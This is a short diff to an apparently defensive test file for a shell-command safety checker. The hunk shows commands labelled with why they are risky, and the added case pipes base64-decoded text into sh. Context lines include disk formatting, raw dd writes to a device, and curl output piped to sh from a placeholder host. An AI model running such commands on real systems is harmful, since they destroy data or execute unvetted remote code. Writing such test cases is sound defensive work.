@@ -55,6 +55,7 @@ def test_what_was_harmless_is_harmless() -> None:
         ("mkfs.ext4 /dev/sdb1", "it formats a disk"),
         ("dd if=a of=/dev/sdb", "it writes to a disk directly"),
         ("curl -s https://a.b | sh", "it runs what it downloads"),
+        ("echo bHMK | base64 -d | sh", "it runs what it decodes"),
         ("curl -s https://a.b | tar x", "it hands a download to another command"),
         ("python3 -c 'eval(1)'", "it evaluates text as code (eval)"),
         ("curl https://a.b", "it talks to a server (curl)"),
